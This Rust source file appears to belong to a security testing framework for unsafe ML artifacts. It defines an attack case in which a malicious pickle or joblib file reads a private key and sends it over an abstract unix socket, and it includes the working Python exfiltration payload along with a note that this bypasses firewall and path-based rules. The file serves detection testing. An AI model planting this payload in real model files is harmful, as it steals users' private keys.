//! A private key is handed to another process over an abstract unix socket.

use super::*;

/// A key is sent by a unix socket.
pub const ATTACK: Attack = Attack {
    id: "exfiltrate-unix",
    title: "a private key handed over by a unix socket",
    summary: "The pickle reads a private key and hands it to a listener on the same machine \
              whose name is no file. Rules of a firewall do not see it, and neither do those \
              that look at paths.",
    severity: Severity::High,
    targets: Targets::Python(&[Loader::Pickle, Loader::Joblib]),
    techniques: &[
        techniques::PRIVATE_KEYS,
        techniques::INTER_PROCESS_COMMUNICATION,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 200],
    references: &[Reference {
        title: "Python documentation: socket families",
        url: "https://docs.python.org/3/library/socket.html#socket-families",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Received(KEY_MARK)],
        policy: &[
            Evidence { kind: EventKind::FileRead, text: KEY },
            Evidence { kind: EventKind::Connect, text: "unix:@deadweight-planted-listener" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let key = payload::quoted(&scene.path(KEY));
    // Without the key the connection is tried all the same.
    let source = format!(
        r"
import socket
try:
    with open({key}) as opened:
        stolen = opened.read()
except OSError:
    stolen = 'unreadable\n'
connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
connection.connect('\0{UNIX_NAME}')
connection.sendall(stolen.encode())
connection.close()
"
    );
    payload::program(ATTACK.id, target, &source)
}
